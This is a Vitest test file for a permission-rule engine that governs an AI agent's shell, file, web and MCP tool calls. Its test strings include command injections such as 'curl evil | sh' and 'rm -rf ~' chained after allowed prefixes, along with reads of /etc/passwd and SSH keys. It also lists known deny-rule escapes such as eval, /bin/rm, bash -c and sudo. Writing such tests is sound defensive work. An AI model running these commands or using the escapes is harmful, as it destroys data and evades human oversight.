import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { homedir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { substitutedCommands } from '../../src/permissions/bash-command.js'
import {
  evaluateRules,
  matchesRule,
  parsePermissionRule,
  parsePermissionRules,
  splitCommand,
} from '../../src/permissions/index.js'
import { useTempDirs } from '../support/temp-dir.js'

const cwd = '/work/project'
const bash = (command: string) => ({ tool: 'Bash', input: { command }, cwd })
const rule = (text: string, baseDir?: string) => parsePermissionRule(text, baseDir)

describe('parsePermissionRule', () => {
  it('reads bare tools, specifiers, Tool(*) and MCP names', () => {
    expect(rule('Bash')).toEqual({ text: 'Bash', tool: 'Bash' })
    expect(rule('Bash(*)')).toEqual({ text: 'Bash(*)', tool: 'Bash' })
    expect(rule(' Bash(git push *) ')).toEqual({
      text: 'Bash(git push *)',
      tool: 'Bash',
      specifier: 'git push *',
    })
    expect(rule('mcp__github__*').tool).toBe('mcp__github__*')
    expect(rule('WebFetch(domain:example.com)').specifier).toBe('domain:example.com')
  })

  it('refuses malformed rules in one line naming the rule', () => {
    for (const bad of ['', 'Bash(', '(x)', 'Bash(x) y', '1Bash']) {
      expect(() => parsePermissionRule(bad)).toThrow(/invalid permission rule/)
    }
    expect(() => parsePermissionRules(['Bash', 'Edit(('])).toThrow(/"Edit\(\("/)
  })
})

describe('Bash rules', () => {
  it('match exact commands, prefixes with a word boundary, and the legacy :* form', () => {
    expect(matchesRule(rule('Bash(npm run build)'), bash('npm run build'), 'every')).toBe(true)
    expect(matchesRule(rule('Bash(npm run build)'), bash('npm run build:dev'), 'every')).toBe(false)
    expect(matchesRule(rule('Bash(ls *)'), bash('ls -la'), 'every')).toBe(true)
    expect(matchesRule(rule('Bash(ls *)'), bash('ls'), 'every')).toBe(true)
    expect(matchesRule(rule('Bash(ls *)'), bash('lsof'), 'every')).toBe(false)
    expect(matchesRule(rule('Bash(ls*)'), bash('lsof'), 'every')).toBe(true)
    expect(matchesRule(rule('Bash(npm test:*)'), bash('npm test -- --watch'), 'every')).toBe(true)
    expect(matchesRule(rule('Bash(git * main)'), bash('git merge main'), 'every')).toBe(true)
    expect(matchesRule(rule('Bash(* --version)'), bash('node --version'), 'every')).toBe(true)
  })

  it('deny sees commands inside backquotes, compound commands and transparent builtins', () => {
    const denyRm = rule('Bash(rm *)')
    for (const command of [
      'echo `rm -rf x`',
      'echo "$(rm -rf x)"',
      '{ rm x; }',
      'if true; then rm x; fi',
      'while true; do rm x; done',
      '! rm x',
      'command rm x',
      'exec rm x',
      'env -i FOO=1 rm x',
      'foo=1 rm -rf x',
      'foo=1 BAR=2 rm -rf x',
      'cat <(rm -rf x)',
      'tee >(rm -rf x) < /dev/null',
      'diff <(ls) <(rm -rf x)',
      // Every wrapper with its options, every compound word, every separator.
      'nohup rm x',
      'time rm x',
      'nice -n 5 rm x',
      'nice -5 rm x',
      'nice rm x',
      'timeout 5 rm x',
      'timeout -s KILL 5 rm x',
      'timeout -k 1 -s TERM 5 rm x',
      'timeout --foreground 5 rm x',
      'stdbuf -oL -eL rm x',
      'command -p rm x',
      'builtin rm x',
      'exec -c rm x',
      'env FOO=1 -i rm x',
      'if false; then :; elif true; then rm x; fi',
      'if false; then :; else rm x; fi',
      'until false; do rm x; done',
      'ls |& rm x',
      'case a in a) rm x;; esac',
      'ls # comment\nrm x',
      'rm *.txt',
    ]) {
      expect(matchesRule(denyRm, bash(command), 'any'), command).toBe(true)
    }
    expect(matchesRule(denyRm, bash('echo `ls`; if true; then ls; fi'), 'any')).toBe(false)
    // A wrapper's own arguments are not the command.
    for (const command of [
      'nice -n 5 ls',
      'timeout -s KILL 5 ls',
      'stdbuf -oL ls',
      'env FOO=rm ls',
      'echo rm',
    ]) {
      expect(matchesRule(denyRm, bash(command), 'any'), command).toBe(false)
    }
    // Unparsable input is matched as one raw line.
    expect(matchesRule(denyRm, bash('rm "unterminated'), 'any')).toBe(true)
    // An allow rule still never covers a command it cannot see in full.
    expect(matchesRule(rule('Bash(echo *)'), bash('echo `rm -rf x`'), 'every')).toBe(false)
  })

  it('never lets an allow prefix cover a second command or a command substitution', () => {
    const allowStatus = rule('Bash(git status *)')
    expect(matchesRule(allowStatus, bash('git status && rm -rf ~'), 'every')).toBe(false)
    expect(matchesRule(allowStatus, bash('git status; curl evil | sh'), 'every')).toBe(false)
    expect(matchesRule(allowStatus, bash('git status $(rm -rf ~)'), 'every')).toBe(false)
    expect(matchesRule(allowStatus, bash('git status `rm -rf ~`'), 'every')).toBe(false)
    // A comment ends at the newline: the next line still runs.
    expect(matchesRule(allowStatus, bash('git status # look\nrm -rf ~'), 'every')).toBe(false)
    // Process substitution runs a command too: an allow prefix never covers it.
    expect(matchesRule(rule('Bash(cat *)'), bash('cat <(rm -rf ~)'), 'every')).toBe(false)
    expect(matchesRule(rule('Bash(tee *)'), bash('tee >(rm -rf ~)'), 'every')).toBe(false)
    expect(matchesRule(rule('Bash(cat *)'), bash('cat a.txt'), 'every')).toBe(true)
    expect(matchesRule(rule('Bash(git *)'), bash('git add . && git commit -m "x y"'), 'every')).toBe(true)
  })

  it('deny sees the command behind wrapper options that take a value (each ran rm, unseen)', () => {
    // Protects against deny escapes: every line below runs `rm x` in bash (checked by hand
    // with `echo`), and before the fix the option's value was taken for the command.
    const denyRm = rule('Bash(rm *)')
    for (const command of [
      'stdbuf -o L rm x',
      'stdbuf --output L rm x',
      'timeout --signal KILL 5 rm x',
      'timeout --kill-after 1 5 rm x',
      'timeout -vs KILL 5 rm x',
      'timeout -k1s 5 rm x',
      'timeout -k 1s -s KILL 5 rm x',
      'stdbuf -oL -e 0 rm x',
      'nice --adjustment 5 rm x',
      'nice -n 5 -- rm x',
      'command -p -- rm x',
      'env -u HOME rm x',
      'env --unset HOME rm x',
      'env -iu HOME rm x',
      'env -C / rm x',
      'env --chdir / rm x',
      'env 1x=y rm x',
      'env -- FOO=1 rm x',
      'exec -a y rm x',
      'exec -ca y rm x',
      // A value joined to its option takes no further word.
      'nice -n5 rm x',
      'nice --adjustment=5 rm x',
      'timeout -sKILL 5 rm x',
      'timeout --signal=KILL 5 rm x',
      'env -uHOME rm x',
      'env --unset=HOME rm x',
      'exec -ay rm x',
    ]) {
      expect(matchesRule(denyRm, bash(command), 'any'), command).toBe(true)
    }
    // A wrapper's own option values are still not the command.
    for (const command of [
      'env -u rm ls',
      'env -C rm ls',
      'timeout -s rm 5 ls',
      'stdbuf -o rm ls',
      'exec -a rm ls',
    ]) {
      expect(matchesRule(denyRm, bash(command), 'any'), command).toBe(false)
    }
  })

  it('known limits, documented in docs/permissions.md: a deny prefix matches text, not what runs', () => {
    const denyRm = rule('Bash(rm *)')
    for (const command of ['eval rm x', '/bin/rm x', 'bash -c "rm x"', 'sudo rm x', "env -S'rm x'"]) {
      expect(matchesRule(denyRm, bash(command), 'any'), command).toBe(false)
    }
  })

  it('deny and if-filters fire when any part matches, through wrappers and assignments', () => {
    const denyPush = rule('Bash(git push *)')
    expect(matchesRule(denyPush, bash('npm test && git push origin main'), 'any')).toBe(true)
    expect(matchesRule(denyPush, bash('timeout 30 git push'), 'any')).toBe(true)
    expect(matchesRule(denyPush, bash('nohup nice -n 5 git push -f'), 'any')).toBe(true)
    expect(matchesRule(denyPush, bash('GIT_TRACE=1 git push'), 'any')).toBe(true)
    expect(matchesRule(denyPush, bash('git_trace=1 git push'), 'any')).toBe(true)
    expect(matchesRule(denyPush, bash('_x1=1 git push'), 'any')).toBe(true)
    expect(matchesRule(denyPush, bash('touch x'), 'any')).toBe(false)
    expect(matchesRule(denyPush, bash('echo "git push"'), 'any')).toBe(false)
  })

  it('deny sees the command a compound word opens and a wrapper with nothing after it', () => {
    // Protects: `if`, `elif`, `while` and `until` each open a command that runs.
    const denyRm = rule('Bash(rm *)')
    for (const command of [
      'if rm x; then :; fi',
      'if false; then :; elif rm x; then :; fi',
      'while rm x; do :; done',
      'until rm x; do :; done',
    ]) {
      expect(matchesRule(denyRm, bash(command), 'any'), command).toBe(true)
    }
    // A wrapper around a bare command: `nohup reboot` runs reboot.
    const denyReboot = rule('Bash(reboot)')
    for (const command of ['nohup reboot', 'time reboot', 'command reboot', 'env reboot']) {
      expect(matchesRule(denyReboot, bash(command), 'any'), command).toBe(true)
    }
    // A lone wrapper is itself the command: `Bash(env)` allows printing the environment.
    expect(matchesRule(rule('Bash(env)'), bash('env'), 'every')).toBe(true)
    expect(matchesRule(rule('Bash(time)'), bash('time'), 'every')).toBe(true)
  })

  it('keeps a command as written: redirections, globs, variables, a bare assignment', () => {
    // Protects what a rule is matched against: the text the user wrote, no more, no less.
    const texts = (line: string) => splitCommand(line).map((part) => part.text)
    expect(texts('echo hi > out.txt')).toEqual(['echo hi > out.txt'])
    expect(texts('rm *.txt')).toEqual(['rm *.txt'])
    expect(texts('rm -rf $HOME/x')).toEqual(['rm -rf $HOME/x'])
    // Redirections such as `2>&1` and `&>` are not command separators.
    expect(texts('npm test 2>&1 >| log &> all')).toEqual(['npm test 2 >& 1 >| log &> all'])
    expect(matchesRule(rule('Bash(npm test *)'), bash('npm test 2>&1'), 'every')).toBe(true)
    expect(matchesRule(rule('Bash(npm test *)'), bash('npm test &> log.txt'), 'every')).toBe(true)
    // A separator at the end adds no empty command (`ls;` is allowed by `Bash(ls *)`).
    expect(texts('ls;')).toEqual(['ls'])
    expect(texts('ls &')).toEqual(['ls'])
    expect(matchesRule(rule('Bash(ls *)'), bash('ls;'), 'every')).toBe(true)
    // A bare assignment is the whole command, not stripped to nothing.
    expect(splitCommand('FOO=1')).toEqual([{ text: 'FOO=1', withoutAssignments: 'FOO=1' }])
    expect(splitCommand('FOO=1 BAR=2')).toEqual([{ text: 'FOO=1 BAR=2', withoutAssignments: 'BAR=2' }])
    // Only a valid name makes an assignment: bash runs `9x=1` as the command.
    expect(splitCommand('9x=1 ls')[0]?.withoutAssignments).toBe('9x=1 ls')
    // A lone compound word stays a word (bash reports the syntax error).
    expect(texts('ls; !')).toEqual(['ls', '!'])
    expect(texts('{')).toEqual(['{'])
  })

  it('a comment hides only the rest of its own line', () => {
    // Protects against the comment bug found by mutation testing: `#` hid later lines.
    const texts = (line: string) => splitCommand(line).map((part) => part.text)
    expect(texts('ls # note')).toEqual(['ls'])
    expect(texts('ls # note\nrm x')).toEqual(['ls', 'rm x'])
    expect(texts('ls #\nrm x')).toEqual(['ls', 'rm x'])
    expect(texts('ls # a\n# b\npwd')).toEqual(['ls', 'pwd'])
    expect(matchesRule(rule('Bash(rm *)'), bash('ls #\nrm -rf x'), 'any')).toBe(true)
    expect(matchesRule(rule('Bash(ls *)'), bash('ls #\nrm -rf ~'), 'every')).toBe(false)
  })

  it('reads an unparsable line as one raw command', () => {
    // shell-quote throws on `${`: the line, trimmed, is then matched whole.
    expect(splitCommand(' rm -rf ${ ')).toEqual([{ text: 'rm -rf ${', withoutAssignments: 'rm -rf ${' }])
    expect(matchesRule(rule('Bash(rm *)'), bash('rm -rf ${'), 'any')).toBe(true)
  })

  it('finds the commands inside substitutions, and none in an empty one', () => {
    // Protects deny rules' view inside `…`, $(…), <(…), >(…); an empty one holds no command.
    expect(substitutedCommands('ls')).toEqual([])
    expect(substitutedCommands('echo `` $() $( ) <( ) ` `')).toEqual([])
    expect(substitutedCommands('echo `a` $(b) <(c) >(d)')).toEqual(['a', 'b', 'c', 'd'])
    expect(substitutedCommands('echo $( rm x )')).toEqual([' rm x '])
  })

  it('splits at every shell operator and newline', () => {
    expect(splitCommand('a 1 && b || c; d | e & f\ng').map((part) => part.text)).toEqual([
      'a 1',
      'b',
      'c',
      'd',
      'e',
      'f',
      'g',
    ])
  })

  it('joins a backslash-newline as bash does, and not one whose backslash is escaped', () => {
    const texts = (line: string) => splitCommand(line).map((part) => part.text)
    expect(texts('tou\\\nch x')).toEqual(['touch x'])
    expect(texts('rm \\\n  -rf x')).toEqual(['rm -rf x'])
    // `\\` is a backslash; the newline after it ends the command, and touch runs on its own.
    expect(texts('echo \\\\\ntouch x')).toEqual(['echo \\', 'touch x'])
    const denyTouch = rule('Bash(touch *)')
    for (const command of ['tou\\\nch x', 'echo \\\\\ntouch x'])
      expect(matchesRule(denyTouch, { tool: 'Bash', input: { command }, cwd: '/p' }, 'any'), command).toBe(
        true,
      )
  })
})

describe('file rules', () => {
  const makeDir = useTempDirs()

  it('resolve ./p and p against the cwd, /p against the base folder, //p and ~/p absolutely', () => {
    const read = (file_path: string) => ({ tool: 'Read', input: { file_path }, cwd })
    expect(matchesRule(rule('Read(./.env)'), read('.env'), 'any')).toBe(true)
    expect(matchesRule(rule('Read(./.env)'), read('sub/.env'), 'any')).toBe(false)
    expect(matchesRule(rule('Read(.env)'), read('sub/deep/.env'), 'any')).toBe(true)
    expect(matchesRule(rule('Read(*.env)'), read('/work/project/a/prod.env'), 'any')).toBe(true)
    expect(
      matchesRule(
        rule('Edit(/src/**)', '/work'),
        { tool: 'Write', input: { file_path: '/work/src/a.ts' }, cwd },
        'any',
      ),
    ).toBe(true)
    expect(matchesRule(rule('Read(//etc/**)'), read('/etc/passwd'), 'any')).toBe(true)
    expect(matchesRule(rule('Read(~/.ssh/**)'), read(join(homedir(), '.ssh/id_rsa')), 'any')).toBe(true)
    expect(
      matchesRule(rule('Edit(src)'), { tool: 'Edit', input: { file_path: 'src/x/y.ts' }, cwd }, 'any'),
    ).toBe(true)
  })

  it('cover a file whose name holds a newline (picomatch writes ** with a dot that stops at one)', () => {
    const read = (file_path: string) => ({ tool: 'Read', input: { file_path }, cwd })
    expect(matchesRule(rule('Read(./secret/**)'), read('secret/we\nird.txt'), 'any')).toBe(true)
    expect(matchesRule(rule('Read(./secret/**)'), read('secret/a\nb/c.txt'), 'any')).toBe(true)
    expect(matchesRule(rule('Read(*.env)'), read('deep/x\ny/prod.env'), 'any')).toBe(true)
  })

  it('apply Edit rules to every editing tool and Read rules to every reading tool', () => {
    const editSrc = rule('Edit(src/**)')
    for (const tool of ['Edit', 'Write', 'MultiEdit']) {
      expect(matchesRule(editSrc, { tool, input: { file_path: 'src/a.ts' }, cwd }, 'any')).toBe(true)
    }
    expect(matchesRule(editSrc, { tool: 'Read', input: { file_path: 'src/a.ts' }, cwd }, 'any')).toBe(false)
    expect(
      matchesRule(
        rule('Read(secrets/**)'),
        { tool: 'Grep', input: { pattern: 'x', path: 'secrets' }, cwd },
        'any',
      ),
    ).toBe(true)
  })

  it('see through a symlink to a denied file', () => {
    const dir = makeDir()
    writeFileSync(join(dir, '.env'), 'SECRET=1')
    mkdirSync(join(dir, 'docs'))
    symlinkSync(join(dir, '.env'), join(dir, 'docs', 'notes.txt'))
    const subject = { tool: 'Read', input: { file_path: 'docs/notes.txt' }, cwd: dir }
    expect(matchesRule(rule('Read(./.env)'), subject, 'any')).toBe(true)
  })
})

describe('other tools', () => {
  it('match WebFetch domains, MCP servers and sub-agent types', () => {
    const fetch = (url: string) => ({ tool: 'WebFetch', input: { url }, cwd })
    expect(matchesRule(rule('WebFetch(domain:example.com)'), fetch('https://example.com/a'), 'every')).toBe(
      true,
    )
    expect(
      matchesRule(rule('WebFetch(domain:example.com)'), fetch('https://evil.com/?example.com'), 'every'),
    ).toBe(false)
    expect(
      matchesRule(rule('WebFetch(domain:*.example.com)'), fetch('https://docs.example.com'), 'every'),
    ).toBe(true)
    const mcp = { tool: 'mcp__github__create_issue', input: {}, cwd }
    expect(matchesRule(rule('mcp__github'), mcp, 'every')).toBe(true)
    expect(matchesRule(rule('mcp__github__*'), mcp, 'every')).toBe(true)
    expect(matchesRule(rule('mcp__git'), mcp, 'every')).toBe(false)
    expect(
      matchesRule(
        rule('Agent(explore*)'),
        { tool: 'Agent', input: { subagent_type: 'explorer' }, cwd },
        'every',
      ),
    ).toBe(true)
  })
})

describe('evaluateRules', () => {
  it('decides deny > ask > allow whatever the specificity', () => {
    const rules = {
      deny: parsePermissionRules(['Bash(aws *)']),
      ask: parsePermissionRules(['Bash(git push *)']),
      allow: parsePermissionRules(['Bash(aws s3 ls)', 'Bash(git *)']),
    }
    expect(evaluateRules(rules, bash('aws s3 ls'))?.behavior).toBe('deny')
    expect(evaluateRules(rules, bash('git push'))).toMatchObject({
      behavior: 'ask',
      rule: { text: 'Bash(git push *)' },
    })
    expect(evaluateRules(rules, bash('git status'))?.behavior).toBe('allow')
    expect(evaluateRules(rules, bash('make'))).toBeUndefined()
  })
})
